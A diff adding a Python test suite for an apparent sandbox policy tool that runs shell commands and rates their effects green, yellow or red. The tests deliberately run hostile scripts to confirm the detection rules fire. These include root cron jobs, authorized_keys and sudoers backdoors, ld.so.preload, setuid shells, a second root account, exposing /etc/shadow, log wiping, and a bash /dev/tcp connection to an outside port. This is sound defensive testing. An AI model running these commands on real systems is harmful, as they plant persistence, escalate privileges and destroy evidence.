@@ -1,0 +1,216 @@
+"""The verdict comes from a policy: the built-in rules on real actions, policies of this host's own, exceptions, and looking again."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import unittest
+from pathlib import Path
+
+import harness
+from harness import GREEN, RED, YELLOW, Result
+
+HEAD = 'schema = "rehearse.policy/1"\n'
+MAKE_PACKAGE = """
+mkdir -p /tmp/p/DEBIAN /tmp/p/usr/bin /tmp/p/etc/cron.d /tmp/p/lib/systemd/system
+printf 'Package: corpus\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: A <a@example.com>\\nDescription: x\\n' > /tmp/p/DEBIAN/control
+printf '0 3 * * * root /bin/true\\n' > /tmp/p/etc/cron.d/corpus
+printf '[Service]\\nExecStart=/bin/true\\n' > /tmp/p/lib/systemd/system/corpus.service
+cp /bin/true /tmp/p/usr/bin/corpus; chmod 4755 /tmp/p/usr/bin/corpus
+dpkg-deb -b /tmp/p /tmp/p.deb > /dev/null && dpkg -i /tmp/p.deb > /dev/null && rm -r /tmp/p /tmp/p.deb
+"""
+
+
+class PolicyCase(harness.HostCase):
+    def rules(self, result: Result) -> list[str]:
+        return [finding["rule"] for finding in result.doc["verdict"]["findings"]]
+
+    def judged(self, script: str, code: int, *rules: str, options: tuple[str, ...] = ("--policy", "builtin"), not_rules: tuple[str, ...] = ()) -> Result:
+        result = self.run_in(["sh", "-c", script], "--cwd", "/", *options)
+        found = json.dumps([[f["rule"], f["level"], f["evidence"][:3]] for f in result.doc["verdict"]["findings"]])
+        self.assertEqual(result.code, code, found)
+        for rule in rules:
+            self.assertIn(rule, self.rules(result), found)
+        for rule in not_rules:
+            self.assertNotIn(rule, self.rules(result), found)
+        return result
+
+    def policy(self, text: str, name: str = "policy.toml") -> str:
+        path = self.base / name
+        path.write_text(HEAD + text)
+        path.chmod(0o644)
+        return str(path)
+
+
+class BuiltIn(PolicyCase):
+    def test_nothing_done_is_green(self) -> None:
+        self.judged("cat /etc/hostname > /dev/null; ls / > /dev/null", GREEN, "safe.no-effects")
+        self.judged("echo x > /tmp/new-file", GREEN, "safe.scratch")
+        self.judged("exit 3", YELLOW, "core.command-failed")
+        self.judged("echo x > /opt/new-file", YELLOW, "policy.nothing-green")
+        self.judged("echo x > /dev/shm/new-file", YELLOW, "core.fidelity")
+
+    def test_what_would_run_later(self) -> None:
+        for script, rule in (
+            ("echo '* * * * * root id' > /etc/cron.d/job", "latent.cron"),
+            ("mkdir -p /root/.ssh; echo key >> /root/.ssh/authorized_keys", "latent.authorized-keys"),
+            ("echo /tmp/x.so > /etc/ld.so.preload", "latent.ld-preload"),
+            ("mkdir -p /etc/sudoers.d; echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x", "latent.sudoers"),
+            ("echo '[Service]' > /etc/systemd/system/x.service", "latent.unit"),
+            ("echo x >> /root/.bashrc", "latent.shell-rc"),
+            ("ln -s /tmp/x /etc/profile.d/x.sh", "latent.shell-rc"),
+            ("cp /bin/true /usr/bin/x; mv /usr/bin/x /usr/bin/passwd", "latent.program-replaced"),
+        ):
+            with self.subTest(script):
+                self.judged(script, RED, rule)
+
+    def test_more_rights_than_before(self) -> None:
+        self.judged("cp /bin/sh /tmp/s; chmod u+s /tmp/s", RED, "priv.setuid-new")
+        self.judged("useradd -m ann", YELLOW, "id.user-added", not_rules=("priv.setuid-new", "id.second-root"))
+        self.judged("echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd", RED, "id.second-root")
+        self.judged("chmod 644 /etc/shadow", RED, "priv.secret-exposed")
+        added = self.judged("useradd ann; usermod -aG sudo ann 2>/dev/null || { groupadd docker; usermod -aG docker ann; }", RED, "id.administrators")
+        self.assertIn({"what": "user-added", "name": "ann"}, [{k: a[k] for k in ("what", "name")} for a in added.doc["accounts"]])
+
+    def test_what_is_gone(self) -> None:
+        self.judged("rm -rf /usr/share/doc", RED, "destroy.mass-delete")
+        self.judged("for f in $(seq 250); do echo $f > /var/log/$f.log; done; rm /var/log/*.log; : > /var/log/wtmp; exit 0", RED, "log.deleted")
+        self.judged(": > /etc/passwd", RED, "destroy.essential-emptied")
+
+    def test_one_cron_job_among_thousands_heads_the_report(self) -> None:
+        script = "rm -rf /usr/share/doc /usr/share/man /usr/share/locale; echo '* * * * * root id' > /etc/cron.d/job"
+        result = self.judged(script, RED, "latent.cron", "destroy.mass-delete")
+        self.assertGreater(result.doc["counts"]["deleted"], 1000)
+        self.assertTrue(self.rules(result)[0].startswith("latent."), self.rules(result))
+        report = self.call("show", "last", json_out=False).out.decode()
+        first = report[report.index("\nRED  latent."):]
+        self.assertIn("/etc/cron.d/job", first[:first.index("\n\n")])
+        self.assertRegex(report, r"and [0-9]+ more")
+
+    def test_a_package_is_a_persons_to_look_at(self) -> None:
+        harness.need("dpkg-deb")
+        result = self.judged(MAKE_PACKAGE, YELLOW, "pkg.changed", "latent.cron-package", "latent.unit-package", "priv.setuid-package",
+                             not_rules=("latent.cron", "latent.unit"))
+        self.assertEqual([(p["what"], p["name"], p["after"]) for p in result.doc["packages"]], [("installed", "corpus", "1.0")])
+        # The same by hand after it, in a file that the package does not own.
+        self.judged(MAKE_PACKAGE + "echo x > /etc/cron.d/other", RED, "latent.cron")
+
+    def test_secret_then_network(self) -> None:
+        harness.need("bash")
+        self.judged("cat /etc/shadow > /dev/null", YELLOW, "secret.read")
+        self.judged("cat /etc/shadow > /dev/null; getent hosts example.com; exit 0", RED, "secret.passwords-then-connect")
+        self.judged("bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444'; exit 0", RED, "net.shell-connects")
+
+    def test_without_a_trace_nothing_is_green(self) -> None:
+        result = self.run_in(["true"], "--no-trace", "--policy", "builtin")
+        self.assertEqual(result.code, harness.INCONCLUSIVE)
+        self.assertIn("policy.unknown", self.rules(result))
+
+
+class OwnPolicy(PolicyCase):
+    RULE = '[[rule]]\nid = "site.motd"\nlevel = "red"\nenforce = "hard"\nwhy = "w"\nfix = "f"\nrefs = ["X1"]\n[rule.match.file]\npath = "/etc/motd"\n'
+    GREEN = '[[rule]]\nid = "site.ok"\nlevel = "green"\nwhy = "w"\n[rule.match.only]\nfiles = ["/etc/**"]\n'
+
+    def test_rules_exceptions_and_the_digest(self) -> None:
+        own = self.policy(self.RULE + self.GREEN)
+        result = self.judged("echo x > /etc/motd", RED, "site.motd", options=("--policy", own))
+        finding = result.doc["verdict"]["findings"][0]
+        self.assertEqual((finding["enforce"], finding["refs"], finding["evidence"]), ("hard", ["X1"], [{"kind": "file", "path": "/etc/motd"}]))
+        digest = self.call("policy", "digest", "--policy", own, json_out=False).out.decode().strip()
+        self.assertEqual(result.doc["verdict"]["policy_digest"], digest)
+        kept = self.state / "runs" / result.doc["id"] / "policy.json"
+        self.assertEqual(kept.read_bytes(), self.call("policy", "digest", "--canonical", "--policy", own, json_out=False).out)
+
+        exception = '[[exception]]\nrule = "site.motd"\npath = "/etc/motd"\nowner = "alice"\nreason = "yearly greeting"\nexpires = {}\n'
+        os.utime(self.policy(exception.format("2999-01-01"), "good.toml"), (1, 1))
+        good = str(self.base / "good.toml")
+        os.utime(own, (1, 1))
+        self.judged("echo x > /etc/motd", GREEN, "site.ok", options=("--policy", own, "--policy", good))
+        why = self.call("show", "last", "--why", json_out=False).out.decode()
+        self.assertIn("site.motd: 1 fact, approved by alice (yearly greeting), until 2999-01-01", why)
+        os.utime(self.policy(exception.format("2026-01-01"), "old.toml"), (1, 1))
+        expired = self.judged("echo x > /etc/motd", RED, "site.motd", options=("--policy", own, "--policy", str(self.base / "old.toml")))
+        self.assertIn("it expired on 2026-01-01", json.dumps(expired.doc["verdict"]))
+        # A policy from the future: the clock cannot be believed, and nor can an expiry.
+        os.utime(good, (4e9, 4e9))
+        back = self.judged("echo x > /etc/motd", RED, "site.motd", options=("--policy", own, "--policy", good))
+        self.assertIs(back.doc["verdict"]["clock_trusted"], False)
+
+    def test_a_policy_that_cannot_be_read_stops_the_run_before_it_starts(self) -> None:
+        marker = self.base / "marker"
+        for text, part in (('[[rule]]\nidd = "x"\n', "unknown key"), ("[[rule", "policy.toml:2"), ("[standing]\n", "not supported")):
+            result = self.call("run", "--policy", self.policy(text), "--", "touch", str(marker), json_out=False)
+            self.assertEqual(result.code, 78, result.err)
+            self.assertEqual(result.err.count(b"\n"), 1)
+            self.assertIn(part, result.err.decode())
+        good = Path(self.policy(self.RULE))
+        good.chmod(0o666)
+        result = self.call("run", "--policy", str(good), "--", "true", json_out=False)
+        self.assertEqual(result.code, 78)
+        self.assertIn(b"somebody beside root can write", result.err)
+        self.assertEqual(self.call("run", "--policy", "/no/such", "--", "true", json_out=False).code, 78)
+        self.assertEqual(list((self.state / "runs").iterdir()) if (self.state / "runs").exists() else [], [])
+
+    def test_shadow_and_advice(self) -> None:
+        trial = self.RULE.replace('level = "red"', 'level = "red"\nmode = "shadow"')
+        self.judged("echo x > /etc/motd", GREEN, "site.motd", "site.ok", options=("--policy", self.policy(trial + self.GREEN)))
+        self.assertIn("on trial: does not decide", self.call("show", "last", json_out=False).out.decode())
+
+
+class LookingAgain(PolicyCase):
+    def test_the_same_bundle_and_policy_give_the_same_verdict(self) -> None:
+        live = self.judged("echo '* * * * * root id' > /etc/cron.d/job; useradd ann; rm /etc/motd", RED)
+        again = self.call("explain", "last", "--policy", "builtin")
+        self.assertEqual(again.out, self.call("explain", "last", "--policy", "builtin").out)
+        self.assertEqual(again.doc["level"], "red")
+        holding = {rule["rule"] for rule in again.doc["rules"] if rule["truth"] == "true"}
+        found = {f["rule"] for f in live.doc["verdict"]["findings"] if f["by"] == "policy" and not f["rule"].startswith(("core.", "policy."))}
+        self.assertEqual(holding, found)
+        # The uppers are not needed for it.
+        subprocess.run(["rm", "-rf", str(self.state / "runs" / live.doc["id"] / "uppers")], check=True)
+        self.assertEqual(again.out, self.call("explain", "last", "--policy", "builtin").out)
+
+    def test_explain_shows_the_facts(self) -> None:
+        self.judged("echo '* * * * * root id' > '/etc/cron.d/j\x1b[31mob'", RED, "latent.cron")
+        text = self.call("explain", "last", "latent.cron", "--policy", "builtin", json_out=False).out.decode()
+        self.assertIn("file: /etc/cron.d/j\\u{001B}[31mob", text)
+        self.assertIn("asks path = /etc/crontab", text)
+        self.assertNotIn("\x1b", text)
+        wrong = self.call("explain", "last", "latent.crom", "--policy", "builtin", json_out=False)
+        self.assertEqual(wrong.code, 64)
+        self.assertIn(b'did you mean "latent.cron"?', wrong.err)
+
+    def test_replay_says_what_would_flip(self) -> None:
+        self.judged("echo x > /etc/motd", YELLOW)
+        self.judged("true", GREEN)
+        candidate = self.policy(OwnPolicy.RULE)
+        result = self.call("policy", "replay", "--since", "1d", "--policy", "builtin", "--candidate", candidate)
+        self.assertEqual(result.code, 0, result.err)
+        flips = {(run["before"], run["after"]) for run in result.doc["runs"]}
+        self.assertEqual(flips, {("yellow", "red"), ("green", "yellow")})
+        self.assertEqual(result.doc["flips"], 2)
+        text = self.call("policy", "replay", "--policy", "builtin", "--candidate", candidate, json_out=False).out.decode()
+        self.assertIn("+ site.motd", text)
+        self.assertIn("2 runs judged, 2 would have another verdict", text)
+
+    def test_policy_test_judges_recorded_bundles(self) -> None:
+        run = self.judged("useradd ann", YELLOW, "id.user-added").doc["id"]
+        subprocess.run(["cp", "-r", str(self.state / "runs" / run), str(self.base / "bundle")], check=True)
+        test = '[[test]]\nname = "t"\nbundle = "bundle"\nexpect = {{ verdict = "{}", rules = ["id.user-added"], not_rules = ["priv.setuid-new"] }}\n'
+        good = self.call("policy", "test", "--policy", "builtin", "--policy", self.policy(test.format("yellow")))
+        self.assertEqual((good.code, good.doc["failed"]), (0, 0), good.out)
+        bad = self.call("policy", "test", "--policy", "builtin", "--policy", self.policy(test.format("green")), json_out=False)
+        self.assertEqual(bad.code, 1)
+        self.assertIn(b"the verdict is yellow, not green", bad.out)
+
+    def test_check(self) -> None:
+        result = self.call("policy", "check", "--policy", "builtin")
+        self.assertTrue(all(file["path"].startswith("built in: ") for file in result.doc["files"]))
+        self.assertGreater(len(result.doc["rules"]), 60)
+        self.assertEqual(self.call("policy", "chekc", json_out=False).code, 64)
+        self.assertEqual(self.call("policy", json_out=False).code, 64)
+
+
+if __name__ == "__main__":
+    harness.main()
